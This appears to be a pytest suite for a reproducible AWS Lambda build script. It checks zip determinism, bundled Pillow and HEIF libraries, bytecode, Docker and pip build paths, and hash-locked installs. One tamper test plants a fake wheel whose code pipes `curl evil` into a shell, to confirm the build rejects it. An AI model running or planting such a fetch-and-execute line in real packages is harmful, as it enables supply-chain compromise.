"""./build.sh: reproducible Lambda zips for the target platform, and the build-info.json Terraform checks."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import subprocess
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from bench.coldstart import sdk_parts
from sample_images import images
from tests.build.project import ROOT, Build, add_test_files, copy_project, fake_project, lock_text, run_build
from tests.terraform.stack import TERRAFORM_DIR, load_stack

pytestmark = pytest.mark.slow

FUNCTIONS = ("image_processor", "db_writer")
EM_AARCH64 = 183
EM_X86_64 = 62
RUNTIME_SDK = {"boto3", "botocore", "s3transfer"}
PIP_INSTALL_RECORDS = {"RECORD", "INSTALLER", "REQUESTED", "direct_url.json"}


def pinned_requirements(function: str) -> dict[str, str]:
    lines = (ROOT / function / "requirements.txt").read_text().splitlines()
    pins = (line.split("#", 1)[0].strip().split("==") for line in lines)
    return {pin[0].lower(): pin[1] for pin in pins if len(pin) == 2}


def elf_machines(archive: zipfile.ZipFile) -> dict[str, int]:
    machines = {}
    for name in archive.namelist():
        with archive.open(name) as member:
            header = member.read(20)
        if header[:4] == b"\x7fELF":
            machines[name] = int.from_bytes(header[18:20], "little")
    return machines


def test_build_same_sources_give_identical_zips(arm64_build: Build, any_python313: str | None, tmp_path: Path):
    # GIVEN a second checkout elsewhere, whose files have other permissions, holding test files and
    # bytecode too, built under another umask
    checkout = copy_project(tmp_path / "checkout")
    for package in ("image_processor", "db_writer", "pipeline_common"):
        for path in (checkout / package).rglob("*.py"):
            path.chmod(0o600)
        add_test_files(checkout / package)
    out = tmp_path / "elsewhere" / "dist"

    # WHEN it is built into another folder
    result = run_build(checkout, "--no-docker", "--out", str(out), umask=0o077, python313=any_python313)

    # THEN every output is byte-identical to the first build's
    assert result.returncode == 0, result.stderr
    for name in ("image_processor.zip", "db_writer.zip", "build-info.json"):
        assert (out / name).read_bytes() == (arm64_build.out / name).read_bytes(), name


@pytest.mark.parametrize("function", FUNCTIONS)
def test_build_zip_entries_are_sorted_with_fixed_times_and_modes(arm64_build: Build, function: str):
    entries = arm64_build.archive(function).infolist()

    assert [entry.filename for entry in entries] == sorted(entry.filename for entry in entries)
    assert {entry.date_time for entry in entries} == {(1980, 1, 1, 0, 0, 0)}
    assert {entry.external_attr >> 16 for entry in entries} <= {0o100644, 0o100755}


@pytest.mark.parametrize(
    ("arch", "machine", "triplet"), [("arm64", EM_AARCH64, "aarch64"), ("x86_64", EM_X86_64, "x86_64")]
)
def test_build_image_processor_has_handler_pillow_and_the_heif_decoder_for_the_arch(request, arch, machine, triplet):
    build: Build = request.getfixturevalue(f"{arch}_build")
    archive = build.archive("image_processor")
    names = set(archive.namelist())

    assert {"image_processor/handler.py", "image_processor/imaging.py", "pipeline_common/__init__.py"} <= names
    assert {f"PIL/_imaging.cpython-313-{triplet}-linux-gnu.so", f"_pi_heif.cpython-313-{triplet}-linux-gnu.so"} <= names
    machines = elf_machines(archive)
    assert any(name.startswith("pillow.libs/") for name in machines)  # the codecs Pillow bundles
    assert any(name.startswith("pi_heif.libs/libheif-") for name in machines)
    assert any(name.startswith("pi_heif.libs/libde265-") for name in machines)  # libheif's HEVC decoder
    assert set(machines.values()) == {machine}
    assert build.info()["architecture"] == arch
    # Pillow's text drawing is left out, and the package stays small enough to upload and unzip fast.
    assert not any("freetype" in name or "_imagingft" in name for name in names)
    assert build.info()["functions"]["image_processor"]["size"] <= 25_000_000


@pytest.mark.parametrize("function", FUNCTIONS)
def test_build_zips_hold_no_sdk_tests_caches_or_install_records(arm64_build: Build, function: str):
    def unwanted(name: str) -> bool:
        parts = name.split("/")
        return (
            parts[0] in RUNTIME_SDK
            or parts[0].split("-")[0] in RUNTIME_SDK
            or ("__pycache__" in parts and name not in compiled)
            or "tests" in parts
            or (parts[-1].startswith("test_") and parts[-1].endswith(".py"))
            or parts[-1] == "conftest.py"
            or (name.endswith((".pyc", ".pyo")) and name not in compiled)
            or (parts[0].endswith(".dist-info") and parts[-1] in PIP_INSTALL_RECORDS)
        )

    names = arm64_build.archive(function).namelist()
    # The bytecode the build compiles, one file per module it ships; never a __pycache__ of the checkout's.
    compiled = {
        re.sub(r"([^/]+)\.py$", r"__pycache__/\1.cpython-313.pyc", name) for name in names if name.endswith(".py")
    }

    assert [name for name in names if unwanted(name)] == []
    assert f"{function}/requirements.txt" not in names and f"{function}/requirements.lock" not in names
    assert {name.split("/")[0] for name in names if name.endswith(".py")} >= {function, "pipeline_common"}


def test_build_info_describes_the_zips_it_wrote(arm64_build: Build):
    info = arm64_build.info()

    assert (info["runtime"], info["architecture"]) == ("python3.13", "arm64")
    assert set(info["functions"]) == set(FUNCTIONS)
    for function in FUNCTIONS:
        entry = info["functions"][function]
        data = (arm64_build.out / entry["zip"]).read_bytes()
        assert entry["zip"] == f"{function}.zip"
        assert (entry["sha256"], entry["size"]) == (hashlib.sha256(data).hexdigest(), len(data))
        assert entry["requirements"] == pinned_requirements(function)
        # The build prints what it wrote, so a user can compare with what Terraform deployed.
        assert re.search(rf"{function}\.zip +{entry['size']:,} bytes +sha256 {entry['sha256']}", arm64_build.stdout)


def test_build_says_which_path_it_took_and_why(arm64_build: Build):
    assert "building for python3.13 arm64: pip (no Docker), because --no-docker" in arm64_build.stdout


def test_build_ships_bytecode_the_runtime_imports_instead_of_compiling_the_source(
    host_build: Build, python313: str, tmp_path: Path
):
    # GIVEN a package built where a Python 3.13 is found, unzipped as Lambda unzips it into /var/task
    task = tmp_path / "task"
    host_build.archive("image_processor").extractall(task)
    assert "bytecode: compiled by Python 3.13 at" in host_build.stdout
    assert host_build.info()["bytecode"] is True
    # (a module whose source no longer compiles shows whether Python read the source or the bytecode)
    for module in ("image_processor/imaging.py", "PIL/Image.py"):
        (task / module).write_text("this is not Python\n")

    # WHEN a Python 3.13 imports the handler's modules from it
    code = "import sys; sys.path.insert(0, sys.argv[1]); import PIL.Image, image_processor.imaging; print('imported')"
    result = subprocess.run([python313, "-I", "-c", code, str(task)], capture_output=True, text=True, timeout=120)

    # THEN it ran the shipped bytecode: every module the zip has, compiled for the runtime's Python
    assert result.stdout.strip() == "imported", result.stderr
    names = set(host_build.archive("image_processor").namelist())
    modules = [name for name in names if name.endswith(".py")]
    assert all(re.sub(r"([^/]+)\.py$", r"__pycache__/\1.cpython-313.pyc", name) in names for name in modules)


def test_build_without_a_python_of_the_target_version_ships_source_and_says_so(tmp_path: Path):
    out = tmp_path / "dist"

    result = run_build(fake_project(tmp_path / "project"), "--no-docker", "--out", str(out))

    assert result.returncode == 0, result.stderr
    assert (
        "bytecode: none, as this build runs without Docker and there is no python3.13 on PATH: each cold start "
        "will compile the modules it imports from source (docs/build.md)"
    ) in result.stdout
    assert json.loads((out / "build-info.json").read_text())["bytecode"] is False
    assert not [name for name in zipfile.ZipFile(out / "db_writer.zip").namelist() if "__pycache__" in name]


def sdk_folder(destination: Path) -> Path:
    """A folder holding only boto3 and what it needs, linked from this virtualenv (as Lambda provides them)."""
    destination.mkdir()
    for part in sdk_parts():
        (destination / part.name).symlink_to(part)
    return destination


SMOKE = """
import sys
sys.path[:0] = [sys.argv[1], sys.argv[2]]
import json
from pathlib import Path
import boto3, PIL
import image_processor.handler  # the init phase: configuration, boto3 clients, the HEIF plugin
from image_processor.imaging import make_thumbnail

made = {}
for photo in sorted(Path(sys.argv[3]).glob("photo.*")):
    info, thumbnail = make_thumbnail(photo.read_bytes(), size=256, max_pixels=100_000_000)
    photo.with_suffix(".thumbnail").with_stem(photo.suffix[1:]).write_bytes(thumbnail.data)
    made[photo.suffix[1:]] = info.format
print(json.dumps({"PIL": PIL.__file__, "boto3": boto3.__file__, "formats": made}))
"""
# One photo in every accepted format, made here by the development Pillow (and pillow-heif for HEIC).
SMOKE_PHOTOS = {
    "jpg": lambda photo: images.encode(photo, "JPEG"),
    "png": lambda photo: images.encode(photo.convert("RGBA"), "PNG"),
    "webp": lambda photo: images.encode(photo, "WEBP"),
    "gif": lambda photo: images.encode(photo.convert("P"), "GIF"),
    "tiff": lambda photo: images.encode(photo, "TIFF", compression="tiff_deflate"),
    "bmp": lambda photo: images.encode(photo, "BMP"),
    "avif": lambda photo: images.encode(photo, "AVIF"),
    "heic": lambda photo: images.heic(photo),
}


def test_build_unzipped_package_imports_the_handler_and_thumbnails_every_accepted_format(
    host_build: Build, python313: str, tmp_path: Path
):
    # GIVEN the package for this host's architecture unzipped, boto3 alone in another folder, and a photo
    # in each accepted format
    task = tmp_path / "task"
    host_build.archive("image_processor").extractall(task)
    sdk = sdk_folder(tmp_path / "sdk")
    photos = tmp_path / "photos"
    photos.mkdir()
    for extension, encode in SMOKE_PHOTOS.items():
        (photos / f"photo.{extension}").write_bytes(encode(images.photo(1200, 800)))
    env = {
        "THUMBNAIL_BUCKET": "thumbs",
        "METADATA_QUEUE_URL": "https://sqs.us-east-1.amazonaws.com/123456789012/q",
        "AWS_DEFAULT_REGION": "us-east-1",
    }

    # WHEN a fresh Python 3.13 whose path is only those two folders and the standard library runs it
    result = subprocess.run(
        [python313, "-I", "-S", "-c", SMOKE, str(task), str(sdk), str(photos)],
        capture_output=True,
        text=True,
        env={**env, "PATH": os.environ["PATH"]},
        timeout=120,
    )

    # THEN it imported Pillow and the HEIF decoder from the package and wrote a real WebP thumbnail of each
    assert result.returncode == 0, result.stderr
    imported = json.loads(result.stdout)
    assert Path(imported["PIL"]).is_relative_to(task)
    assert Path(imported["boto3"]).parent.parent == sdk
    assert imported["formats"] == {
        "avif": "AVIF",
        "bmp": "BMP",
        "gif": "GIF",
        "heic": "HEIF",
        "jpg": "JPEG",
        "png": "PNG",
        "tiff": "TIFF",
        "webp": "WEBP",
    }
    for extension in SMOKE_PHOTOS:
        thumbnail = Image.open(photos / f"{extension}.thumbnail")
        assert (thumbnail.format, thumbnail.size) == ("WEBP", (256, 171)), extension


def test_build_fails_naming_the_package_without_a_wheel_for_the_target(tmp_path: Path):
    # GIVEN a requirement that a package index offers only as an sdist
    index = tmp_path / "index"
    index.mkdir()
    (index / "fakeimg-1.0.tar.gz").write_bytes(b"")
    project = fake_project(tmp_path / "project", image_processor_requirements="fakeimg==1.0\n")
    out = tmp_path / "dist"

    # WHEN the pip path builds it
    pip_index = {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(index)}
    result = run_build(project, "--no-docker", "--out", str(out), env=pip_index)

    # THEN it names the package and the wheels it needs, without compiling the sdist
    assert result.returncode == 1
    assert "error: image_processor: no wheel of fakeimg==1.0 for python3.13 on arm64" in result.stderr
    assert "needs a manylinux_2_28_aarch64 or manylinux2014_aarch64 wheel" in result.stderr
    assert "never compiles from source" in result.stderr
    assert [path.name for path in out.iterdir()] == []  # nothing half-built for Terraform to pick up


def fake_wheel(index: Path, module_text: str) -> str:
    """Writes fakeimg 1.0 as a pure-Python wheel into a find-links folder; returns the wheel's sha256."""
    wheel = index / "fakeimg-1.0-py3-none-any.whl"
    files = {
        "fakeimg/__init__.py": module_text,
        "fakeimg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: fakeimg\nVersion: 1.0\n",
        "fakeimg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    files["fakeimg-1.0.dist-info/RECORD"] = "".join(f"{name},,\n" for name in [*files, "fakeimg-1.0.dist-info/RECORD"])
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return hashlib.sha256(wheel.read_bytes()).hexdigest()


def test_build_installs_the_locked_wheel_and_refuses_one_whose_hash_differs(tmp_path: Path):
    # GIVEN a package index holding a wheel, and a lock with that wheel's sha256
    index = tmp_path / "index"
    index.mkdir()
    locked = fake_wheel(index, "GENUINE = True\n")
    lock = lock_text({"fakeimg==1.0": locked})
    project = fake_project(tmp_path / "project", image_processor_requirements="fakeimg==1.0\n", lock=lock)
    pip_index = {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(index)}

    # WHEN the pip path builds it
    result = run_build(project, "--no-docker", "--out", str(tmp_path / "dist"), env=pip_index)
    # THEN the locked wheel is in the zip
    assert result.returncode == 0, result.stdout + result.stderr
    assert "installing fakeimg==1.0 with pip for" in result.stdout and "from requirements.lock" in result.stdout
    archive = Build(tmp_path / "dist", result.stdout).archive("image_processor")
    assert archive.read("fakeimg/__init__.py") == b"GENUINE = True\n"

    # WHEN the index serves a tampered wheel under the same name and version
    assert fake_wheel(index, "import os; os.system('curl evil | sh')\n") != locked
    out = tmp_path / "tampered"
    result = run_build(project, "--no-docker", "--out", str(out), env=pip_index)

    # THEN the build fails, says why, and writes nothing for Terraform to deploy
    assert result.returncode == 1
    assert "error: image_processor: a file pip downloaded is not the one image_processor/requirements.lock locks" in (
        result.stderr
    )
    assert [path.name for path in out.iterdir()] == []


def test_build_refuses_a_lock_that_does_not_pin_what_requirements_txt_asks(tmp_path: Path):
    # GIVEN requirements.txt raised to 1.1 and a lock still at 1.0
    lock = lock_text({"fakeimg==1.0": "0" * 64})
    project = fake_project(tmp_path / "project", image_processor_requirements="fakeimg==1.1\n", lock=lock)
    out = tmp_path / "dist"

    result = run_build(project, "--no-docker", "--out", str(out))

    # THEN it stops before pip runs and says how to bring the lock up to date
    assert result.returncode == 1
    assert (
        "error: image_processor: image_processor/requirements.lock does not lock fakeimg==1.1 from "
        "image_processor/requirements.txt (it has 1.0): run scripts/lock.sh"
    ) in result.stderr
    assert [path.name for path in out.iterdir()] == []


def test_build_docker_path_installs_inside_the_lambda_image(tmp_path: Path, fake_docker):
    # GIVEN a Docker engine that answers, and a requirement whose install also pulls in boto3
    environment, calls = fake_docker
    project = fake_project(tmp_path / "project", image_processor_requirements="fakeimg==1.0\n")
    out = tmp_path / "dist"

    result = run_build(project, "--python", "3.12", "--out", str(out), env=environment("up"))

    # THEN it runs pip in the python3.12 Lambda image for linux/arm64, into a build folder
    assert result.returncode == 0, result.stderr
    assert "python3.12 arm64: Docker, because Docker engine 28.2.2 answered `docker info`" in result.stdout
    info_call, run_call, *compile_calls = calls()  # db_writer has no requirements: one pip run only
    assert info_call == ["info", "--format", "{{.ServerVersion}}"]
    site = run_call[run_call.index("--volume") + 3].removesuffix(":/build/site")
    # The python3.12 Lambda image, pinned by digest: a re-pushed tag cannot change what pip runs in
    image = run_call[run_call.index(f"{ROOT}/.cache/pip:/build/pip-cache") + 1]
    assert re.fullmatch(r"public\.ecr\.aws/lambda/python:3\.12@sha256:[0-9a-f]{64}", image), image
    assert Path(site).parent == project / ".build"
    assert run_call == [
        "run", "--rm", "--platform", "linux/arm64", "--user", f"{os.getuid()}:{os.getgid()}",
        "--env", "HOME=/tmp", "--entrypoint", "python3",
        "--volume", f"{project}/image_processor/requirements.lock:/build/requirements.txt:ro",
        "--volume", f"{site}:/build/site",
        "--volume", f"{ROOT}/.cache/pip:/build/pip-cache",
        image,
        "-m", "pip", "install", "--no-compile", "--disable-pip-version-check", "--no-warn-script-location",
        "--cache-dir", "/build/pip-cache", "--target", "/build/site", "--only-binary=:all:", "--require-hashes",
        "-r", "/build/requirements.txt",
    ]  # fmt: skip
    # AND it compiles each zip's bytecode with the same image's Python, in a folder of the build's
    assert len(compile_calls) == 2
    for compile_call in compile_calls:
        tree = compile_call[compile_call.index("--volume") + 1].removesuffix(":/build/tree")
        assert Path(tree).is_relative_to(project / ".build")
        assert compile_call == [
            "run", "--rm", "--platform", "linux/arm64", "--user", f"{os.getuid()}:{os.getgid()}",
            "--env", "HOME=/tmp", "--entrypoint", "python3", "--volume", f"{tree}:/build/tree", image,
            "-m", "compileall", "-q", "--invalidation-mode", "unchecked-hash", "-s", "/build/tree", "-p", "/var/task",
            "/build/tree",
        ]  # fmt: skip
    # AND the zip keeps the package and six, which it needs too, but not the SDK or what only the SDK needs,
    # nor scripts, the wheel's own bytecode, tests or pip's install records; the bytecode it has is the build's
    build = Build(out, result.stdout)
    assert sorted(build.archive("image_processor").namelist()) == [
        "fakeimg-1.0.dist-info/METADATA",
        "fakeimg-1.0.dist-info/WHEEL",
        "fakeimg/__init__.py",
        "fakeimg/__pycache__/__init__.cpython-312.pyc",
        "image_processor/__init__.py",
        "image_processor/__pycache__/__init__.cpython-312.pyc",
        "image_processor/__pycache__/handler.cpython-312.pyc",
        "image_processor/handler.py",
        "pipeline_common/__init__.py",
        "pipeline_common/__pycache__/__init__.cpython-312.pyc",
        "six-1.17.dist-info/METADATA",
        "six/__init__.py",
        "six/__pycache__/__init__.cpython-312.pyc",
    ]
    assert build.archive("image_processor").read("six/__pycache__/__init__.cpython-312.pyc") == b"bytecode"
    assert build.info()["bytecode"] is True
    for sdk in ("boto3 1.0", "botocore 1.0", "s3transfer 0.1"):
        assert f"leaving out {sdk}: the Lambda runtime provides it" in result.stdout
    for dependency in ("jmespath 1.0", "python-dateutil 2.9", "urllib3 2.0"):
        assert f"leaving out {dependency}: only the AWS SDK needs it, and the runtime has its own" in result.stdout
    assert build.info()["functions"]["image_processor"]["requirements"] == {"fakeimg": "1.0", "six": "1.17"}
    assert build.info()["build_path"] == "docker"
    assert not Path(site).exists()  # the build folder is cleaned up


def test_build_docker_path_fails_naming_the_package_without_a_wheel(tmp_path: Path, fake_docker):
    # GIVEN a requirement with no wheel for the Lambda image (pip there, wheels only, finds none)
    environment, _ = fake_docker
    project = fake_project(tmp_path / "project", image_processor_requirements="fakeimg==1.0\n")
    out = tmp_path / "dist"

    env = {**environment("up"), "FAKE_DOCKER_PIP": "no-wheel"}
    result = run_build(project, "--docker", "--out", str(out), env=env)

    # THEN it names the package, the same way the pip path does, and writes nothing
    assert result.returncode == 1
    assert "error: image_processor: no wheel of fakeimg==1.0 for python3.13 on arm64" in result.stderr
    assert re.search(r"\(pip in public\.ecr\.aws/lambda/python:3\.13@sha256:[0-9a-f]{64} found none\)", result.stderr)
    assert "never compiles from source" in result.stderr
    assert [path.name for path in out.iterdir()] == []


def test_build_refuses_to_guess_what_was_requested(tmp_path: Path, fake_docker):
    # GIVEN a pip that writes no REQUESTED files, so requirements.txt's packages look like the SDK's
    environment, _ = fake_docker
    project = fake_project(tmp_path / "project", image_processor_requirements="fakeimg==1.0\n")
    out = tmp_path / "dist"

    env = {**environment("up"), "FAKE_DOCKER_PIP": "no-requested"}
    result = run_build(project, "--docker", "--out", str(out), env=env)

    # THEN it stops instead of shipping a package without its dependencies
    assert result.returncode == 1
    assert "error: pip wrote no REQUESTED file" in result.stderr
    assert [path.name for path in out.iterdir()] == []


@pytest.mark.parametrize(
    ("args", "engine", "returncode", "says"),
    [
        ([], "down", 0, "pip (no Docker), because no Docker engine answered `docker info` (Cannot connect"),
        (["--no-docker"], "up", 0, "pip (no Docker), because --no-docker was given"),
        (["--docker"], "down", 1, "error: --docker was given but no Docker engine answered"),
    ],
    ids=["auto-without-engine", "no-docker-with-engine", "docker-without-engine"],
)
def test_build_path_choice(tmp_path: Path, fake_docker, args, engine, returncode, says):
    environment, calls = fake_docker
    project = fake_project(tmp_path / "project")

    result = run_build(project, *args, "--out", str(tmp_path / "dist"), env=environment(engine))

    assert result.returncode == returncode
    assert says in result.stdout + result.stderr
    asked_docker = [call for call in calls() if call[0] == "info"]
    assert len(asked_docker) == (0 if "--no-docker" in args else 1)


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--arch", "amd64"], "argument --arch: unsupported architecture 'amd64'; choose one of arm64, x86_64"),
        (["--python", "3.9"], "argument --python: unsupported Python version '3.9'; choose one of 3.12, 3.13"),
        (
            ["--python", "3.11"],
            "argument --python: Python 3.11 is not supported: python3.11 runs on Amazon Linux 2 (glibc 2.26), "
            "which cannot load Pillow 13's manylinux_2_28 wheels",
        ),
    ],
    ids=["arch-flag", "python-flag", "python-3.11-flag"],
)
def test_build_rejects_bad_settings_by_name(tmp_path: Path, args, says):
    result = run_build(fake_project(tmp_path / "project"), *args)

    assert result.returncode == 2
    assert says in result.stderr


def test_build_default_output_is_the_folder_terraform_reads(tmp_path: Path):
    # GIVEN Terraform's default package_dir, relative to terraform/
    package_dir = load_stack().variables["package_dir"]["default"]
    project = fake_project(tmp_path / "project")

    # WHEN the build runs without --out
    result = run_build(project, "--no-docker")

    # THEN it writes where terraform/ + package_dir points in that checkout
    assert result.returncode == 0, result.stderr
    terraform_reads = (project / TERRAFORM_DIR.relative_to(ROOT) / package_dir).resolve()
    assert sorted(path.name for path in terraform_reads.iterdir()) == [
        "build-info.json",
        "db_writer.zip",
        "image_processor.zip",
    ]


def test_build_names_a_missing_handler(tmp_path: Path):
    project = fake_project(tmp_path / "project")
    (project / "db_writer" / "handler.py").unlink()

    result = run_build(project, "--no-docker", "--out", str(tmp_path / "dist"))

    assert result.returncode == 1
    assert "error: db_writer/handler.py is missing" in result.stderr


def test_build_options_select_the_target(tmp_path: Path):
    project = fake_project(tmp_path / "project")
    out = tmp_path / "x86"

    result = run_build(project, "--arch", "x86_64", "--python", "python3.12", "--no-docker", "--out", str(out))

    assert result.returncode == 0, result.stderr
    info = json.loads((out / "build-info.json").read_text())
    assert (info["runtime"], info["architecture"]) == ("python3.12", "x86_64")


def test_build_executables_are_0755_whatever_their_mode(tmp_path: Path):
    # GIVEN the same tiny project in two places, one file executable in both
    outputs = []
    for name in ("one", "two"):
        project = fake_project(tmp_path / name)
        (project / "db_writer" / "tool.sh").write_text("#!/bin/sh\n")
        (project / "db_writer" / "tool.sh").chmod(0o700 if name == "one" else 0o755)
        assert run_build(project, "--no-docker", "--out", str(tmp_path / name / "dist")).returncode == 0
        outputs.append((tmp_path / name / "dist" / "db_writer.zip").read_bytes())

    # THEN the zips match, and the executable keeps its x bit as 0755
    assert outputs[0] == outputs[1]
    info = zipfile.ZipFile(io.BytesIO(outputs[0])).getinfo("db_writer/tool.sh")
    assert info.external_attr >> 16 == 0o100755


def test_build_with_another_python_and_pip_gives_identical_zips(arm64_build: Build, python313: str, tmp_path: Path):
    out = tmp_path / "dist"

    result = run_build(ROOT, "--no-docker", "--out", str(out), env={"PYTHON": python313}, python313=python313)

    assert result.returncode == 0, result.stderr
    for name in ("image_processor.zip", "db_writer.zip"):
        assert (out / name).read_bytes() == (arm64_build.out / name).read_bytes(), name
